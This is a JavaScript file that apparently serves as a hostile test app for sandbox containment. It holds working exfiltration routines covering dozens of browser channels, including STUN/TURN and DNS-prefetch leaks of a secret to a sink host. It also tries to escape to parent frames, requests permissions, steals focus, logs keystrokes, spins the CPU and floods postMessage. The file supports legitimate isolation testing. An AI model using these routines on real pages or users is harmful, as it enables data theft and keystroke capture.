// An app that tries everything. `attack(name, sink, secret)` runs one attempt and tells what it noticed;
// whether anything got out is for the sink to say.

const later = (ms) => new Promise((done) => setTimeout(done, ms));
const outcome = async (attempt) => {
  try {
    return { value: await attempt() };
  } catch (error) {
    return { error: error?.name ?? String(error) };
  }
};
const element = (tag, attributes, where = document.body) => {
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  where.append(made);
  return made;
};

const egress = {
  fetch: (url) => fetch(url, { mode: "no-cors", keepalive: true }),
  xhr: (url) =>
    new Promise((done, failed) => {
      const request = new XMLHttpRequest();
      request.onloadend = () => done(request.status);
      request.onerror = failed;
      request.open("GET", url);
      request.send();
    }),
  event_source: async (url) => {
    new EventSource(url);
    await later(200);
  },
  web_socket: async (url) => {
    new WebSocket(url.replace("http", "ws"));
    await later(200);
  },
  send_beacon: (url) => navigator.sendBeacon(url, "x"),
  image: async (url) => {
    new Image().src = url;
    await later(200);
  },
  script: (url) => element("script", { src: url }),
  style: (url) => element("link", { rel: "stylesheet", href: url }),
  style_import: (url) => {
    element("style", {}).textContent = `@import url("${url}");`;
  },
  style_background: (url) => {
    document.body.style.backgroundImage = `url("${url}")`;
  },
  font: (url) => new FontFace("x", `url("${url}")`).load(),
  media: (url) => element("video", { src: url, autoplay: "" }),
  object: (url) => element("object", { data: url }),
  embed: (url) => element("embed", { src: url }),
  frame: (url) => element("iframe", { src: url }),
  preload: (url) => element("link", { rel: "preload", as: "image", href: url }, document.head),
  module_preload: (url) => element("link", { rel: "modulepreload", href: url }, document.head),
  prefetch: (url) => element("link", { rel: "prefetch", href: url }, document.head),
  icon: (url) => element("link", { rel: "icon", href: url }, document.head),
  import_module: (url) => import(url),
  ping: async (url) => {
    element("a", { href: "#x", ping: url }).click();
    await later(100);
  },
  speculation: (url) => {
    const rules = element("script", { type: "speculationrules" });
    rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url] }] });
  },
  blob_worker: async (url) => {
    const source = new Blob([`fetch(${JSON.stringify(url)}, {mode: "no-cors"})`]);
    new Worker(URL.createObjectURL(source));
    await later(300);
  },
  blob_frame: async (url) => {
    const source = new Blob([`<img src="${url}">`], { type: "text/html" });
    element("iframe", { src: URL.createObjectURL(source) });
    await later(300);
  },
  srcdoc: async (url) => {
    element("iframe", { srcdoc: `<img src="${url}">` });
    await later(300);
  },
  inner_html: async (url) => {
    document.body.insertAdjacentHTML("beforeend", `<img src="${url}" onerror="fetch('${url}')">`);
    await later(200);
  },
  evaluated: (url) => (0, eval)(`fetch(${JSON.stringify(url)}, {mode: "no-cors"})`),
  form: async (url) => {
    const form = element("form", { action: url, method: "POST" });
    form.submit();
    await later(300);
  },
  form_child: async (url) => {
    element("iframe", { name: "child" });
    element("form", { action: url, method: "POST", target: "child" }).submit();
    await later(300);
  },
  popup: async (url) => {
    const opened = window.open(url);
    element("a", { href: url, target: "_blank" }).click();
    await later(300);
    return opened === null;
  },
  download: async (url) => {
    element("a", { href: url, download: "x" }).click();
    await later(300);
  },
  location: async (url) => {
    location.href = url;
    await later(500);
  },
  location_replace: async (url) => {
    location.replace(url);
    await later(500);
  },
  meta_refresh: async (url) => {
    element("meta", { "http-equiv": "refresh", content: `0; url=${url}` }, document.head);
    await later(700);
  },
  link_click: async (url) => {
    element("a", { href: url }).click();
    await later(500);
  },
  top_location: async (url) => {
    top.location.href = url;
    await later(300);
  },
  stun: (url, secret) => ice([{ urls: `stun:${new URL(url).host}` }], secret),
  turn: (url, secret) =>
    ice([{ urls: `turn:${new URL(url).host}?transport=tcp`, username: secret, credential: "x" }], secret),
  stun_in_blank_frame: async (url, secret) => {
    const blank = element("iframe", {});
    await later(100);
    return ice([{ urls: `stun:${new URL(url).host}` }], secret, blank.contentWindow.RTCPeerConnection);
  },
  web_transport: async (url) => {
    const transport = new WebTransport(url.replace("http:", "https:"));
    await transport.ready;
  },
};

const ice = async (iceServers, secret, Connection = globalThis.RTCPeerConnection) => {
  const connection = new Connection({ iceServers });
  connection.createDataChannel(secret);
  await connection.setLocalDescription(await connection.createOffer());
  await later(1500);
};

const names = {
  dns_prefetch: (host) => element("link", { rel: "dns-prefetch", href: `//${host}` }, document.head),
  preconnect: (host) => element("link", { rel: "preconnect", href: `http://${host}` }, document.head),
  stun_name: (host) => ice([{ urls: `stun:${host}:3478` }], "name"),
  image_name: (host) => {
    new Image().src = `http://${host}/`;
  },
};

const reach = {
  parent_document: () => parent.document.title,
  top_location: () => top.location.href,
  sibling: () => parent.frames[1]?.document.title,
  cookie: () => {
    document.cookie = "a=b";
    return document.cookie;
  },
  local_storage: () => localStorage.setItem("a", "b"),
  session_storage: () => sessionStorage.setItem("a", "b"),
  indexed_db: () =>
    new Promise((done, failed) => {
      const opening = indexedDB.open("x");
      opening.onsuccess = () => done("open");
      opening.onerror = () => failed(opening.error);
    }),
  caches: () => caches.open("x").then(() => "open"),
  private_files: () => navigator.storage.getDirectory().then(() => "open"),
  service_worker: () => navigator.serviceWorker.register("sw.js").then(() => "registered"),
  top_navigation: () => {
    top.location = "about:blank";
  },
  parent_script: () => {
    parent.location = "javascript:void(document.title='owned')";
  },
  opener: () => window.opener?.document.title ?? null,
};

const permissions = {
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
  geolocation: () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed)),
  clipboard_read: () => navigator.clipboard.readText(),
  clipboard_write: () => navigator.clipboard.writeText("x"),
  notifications: async () => {
    if ((await Notification.requestPermission()) !== "granted") throw new Error("denied");
  },
  display_capture: () => navigator.mediaDevices.getDisplayMedia({ video: true }),
  file_picker: () => showOpenFilePicker(),
  web_authn: () =>
    navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 500 } }),
  usb: () => navigator.usb.requestDevice({ filters: [] }),
  fullscreen: () => document.documentElement.requestFullscreen(),
  pointer_lock: async () => {
    await document.documentElement.requestPointerLock();
  },
  wake_lock: () => navigator.wakeLock.request("screen"),
};

const focus_ways = {
  window_and_field: (parts) => {
    window.focus();
    parts.field.focus();
  },
  select: (parts) => parts.field.select(),
  drawing: (parts) => parts.drawing.focus(),
  label: (parts) => parts.label.click(),
  dialog: (parts) => parts.dialog.showModal(),
  popover: (parts) => parts.popover.showPopover(),
  popover_button: (parts) => parts.button.click(),
  validity: (parts) => parts.field.reportValidity(),
  event: (parts) => parts.label.dispatchEvent(new MouseEvent("click", { bubbles: true })),
  fragment: () => {
    location.hash = "#field";
  },
};

// Each attempt asks for a path of its own name, so that the sink can tell which one got out.
globalThis.attack = (name, sink, secret) =>
  outcome(() => egress[name](`${sink}/${name}?${secret}`, secret)).then(async (told) => {
    await later(300);
    return told;
  });
// One after the other without waiting for any of them, then long enough for the slowest to ask.
globalThis.attack_all = async (attempts, sink, secret) => {
  for (const name of attempts) {
    void attack(name, sink, secret);
    await later(30);
  }
  await later(2000);
};
globalThis.ask_names = async (secret) => {
  for (const [name, ask] of Object.entries(names)) void outcome(() => ask(`${name.replace("_", "-")}.${secret}.test`));
  await later(2000);
};
globalThis.reach = (name) => outcome(() => reach[name]());
globalThis.permit = (name) =>
  Promise.race([outcome(() => permissions[name]()), later(1500).then(() => ({ error: "NoAnswer" }))]);
globalThis.vectors = {
  egress: Object.keys(egress),
  names: Object.keys(names),
  reach: Object.keys(reach),
  permissions: Object.keys(permissions),
  focus: Object.keys(focus_ways),
};
globalThis.steal_focus = (way, every) => {
  const field = element("input", { id: "field", required: "" });
  const popover = element("div", { popover: "", id: "over" });
  const dialog = element("dialog", {});
  const parts = {
    field,
    popover,
    dialog,
    drawing: document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")),
    label: element("label", { for: "field" }),
    button: element("button", { popovertarget: "over" }),
  };
  parts.drawing.setAttribute("tabindex", "0");
  element("input", { autofocus: "" }, popover);
  element("input", { autofocus: "" }, dialog);
  addEventListener("keydown", (event) => globalThis.send?.({ v: 1, type: "diagnostics.log", payload: { level: "warning", message: `stolen ${event.key}` } }), true);
  setInterval(() => {
    try {
      focus_ways[way](parts);
    } catch {
      // What is not there cannot steal.
    }
  }, every);
};
globalThis.spin = (ms) => {
  const end = performance.now() + ms;
  while (performance.now() < end);
};
globalThis.flood_parent = (count) => {
  for (let i = 0; i < count; i += 1) parent.postMessage({ lineloop: 1, i }, "*");
};
document.documentElement.dataset.hostile = "ready";
